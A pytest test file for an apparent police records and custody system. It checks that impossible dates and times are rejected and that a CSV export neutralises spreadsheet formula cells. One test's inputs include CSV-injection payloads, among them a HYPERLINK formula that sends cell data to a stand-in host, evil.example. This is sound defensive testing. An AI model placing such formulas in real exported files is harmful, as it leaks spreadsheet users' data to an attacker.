"""Values that are well-formed but wrong are refused, not guessed (issue 21, Low): a date of
birth with month or day 00, a custody time in year 1, and formula cells in the CSV that
``mips resolve`` writes for spreadsheets (CSV injection)."""
from __future__ import annotations

import csv

import pytest
from click.testing import CliRunner

from core.cli import main
from core.identity.services import create_user
from core.platform.db import commit, session


@pytest.mark.parametrize("dob", ["1990-00-10", "1990-00", "1990-10-00", "1990-00-00", "1990-13-01", "1990-02-30"])
def test_a_date_of_birth_with_a_zero_or_impossible_part_is_refused(client, dob):
    r = client.post("/api/v1/persons", "officer", json={"names": [{"given": "Ann", "family": "Lee"}], "dobs": [dob]})
    assert r.status_code == 422, r.json
    assert "dobs" in r.json["errors"]["json"]


@pytest.mark.parametrize("dob", ["1990", "1990-10", "1990-10-05"])
def test_partial_dates_of_birth_still_pass_as_given(client, dob):
    r = client.post("/api/v1/persons", "officer", json={"names": [{"given": "Ann", "family": "Lee"}], "dobs": [dob]})
    assert r.status_code in (200, 201, 202), r.json
    assert client.read(f"/api/v1/persons/{r.json['id']}").json["dobs"] == [dob]


@pytest.fixture
def sergeant(app, enable):
    with app.app_context():
        create_user(session(), app.extensions["mips"].known_roles(), username="sergeant",
                    password="correct-horse-battery", unit="Camden", roles=["custody_officer:custody", "officer"])
        commit()
    enable("custody")
    return "sergeant"


@pytest.mark.parametrize("when", ["0001-01-01T10:00:00+00:00", "1899-12-31T23:00:00+00:00", "9999-12-31T23:59:59-14:00"])
def test_a_custody_time_outside_1900_to_2200_is_refused(client, sergeant, when):
    body = {"suite": "CAM", "person": {"names": [{"given": "Rob", "family": "Lans"}], "dobs": ["1984-03-02"]},
            "arrest_at": when, "grounds": "suspected theft", "offences": [{"wording": "theft"}]}
    r = client.post("/api/v1/custody/detentions", sergeant, json=body)
    assert r.status_code == 422, r.json
    assert "arrest_at" in r.json["errors"]["json"]
    r = client.get(f"/api/v1/custody/suites/CAM/board?at={when.replace('+', '%2B')}", sergeant)
    assert r.status_code == 422


def test_mips_resolve_writes_formula_cells_as_text(tmp_path, database_url, monkeypatch):
    monkeypatch.setenv("MIPS_DATABASE_URL", database_url)  # the run is audited there
    header = "record_id,source,given_name,family_name,dob,sex,address,postcode,pnc_id,cro_number,ni_number,driving_licence"
    ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "plain-1"]
    rows = [f'"{rid.replace(chr(34), chr(34) * 2)}",cris,Ann{n},Lee{n},1980-01-0{n + 1},F,,,,,,' for n, rid in enumerate(ids)]
    src, out = tmp_path / "in.csv", tmp_path / "out.csv"
    src.write_text("\n".join([header, *rows]) + "\n")
    result = CliRunner().invoke(main, ["resolve", str(src), str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    with out.open() as handle:
        written = [row["record_id"] for row in csv.DictReader(handle)]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)
    assert set(written) >= {"'" + ids[0], "'+1+1", "'-2+3", "'@SUM(A1)", "plain-1"}
